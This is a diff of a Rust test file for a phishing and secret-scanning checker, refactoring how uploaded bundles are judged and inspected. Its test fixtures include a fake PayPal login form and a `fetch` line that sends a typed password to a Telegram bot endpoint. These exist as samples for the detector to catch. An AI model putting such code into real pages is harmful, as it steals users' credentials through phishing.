@@ -3,10 +3,10 @@
 use std::fmt::Write as _;
 use std::sync::LazyLock;
 
-use dropleaf_content::phishing::{Rules, Verdict, check_bundle};
+use dropleaf_content::phishing::{Rules, Verdict};
 use dropleaf_content::{Texts, is_active, mime_of, read_loose, secrets};
 
-use crate::support::{upload, zip_of, zip_of_bytes};
+use crate::support::{check_bundle, for_inspection, upload, zip_of, zip_of_bytes};
 
 static RULES: LazyLock<Rules> = LazyLock::new(Rules::builtin);
 
@@ -15,7 +15,7 @@ const FORM: &str = "<title>PayPal login</title><form action='https://collect.inv
 const SENDER: &str = "fetch('https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text='+password.value)";
 
 fn judged(name: &str, bytes: impl Into<bytes::Bytes>) -> Verdict {
-    check_bundle(&upload(name, bytes).unwrap(), &RULES).unwrap()
+    check_bundle(&upload(name, bytes).unwrap(), &RULES)
 }
 
 fn judged_in_zip(files: &[(&str, &[u8])]) -> Verdict {
@@ -104,7 +104,8 @@ fn whatever_is_sent_as_text_is_searched_for_secrets() {
     for extension in extensions() {
         let name = format!("x/a.{extension}");
         let zip = zip_of(&[("index.html", "<p>x"), (&name, &key)]);
-        let found = secrets::find_in_texts(&Texts::of(&upload("a.zip", zip).unwrap()).unwrap());
+        let bundle = upload("a.zip", zip).unwrap();
+        let found = secrets::find_in_texts(&for_inspection(&Texts::of(&bundle).unwrap()));
         assert_eq!(!found.is_empty(), mime_of(&name).contains("charset="), "{name}");
     }
 }
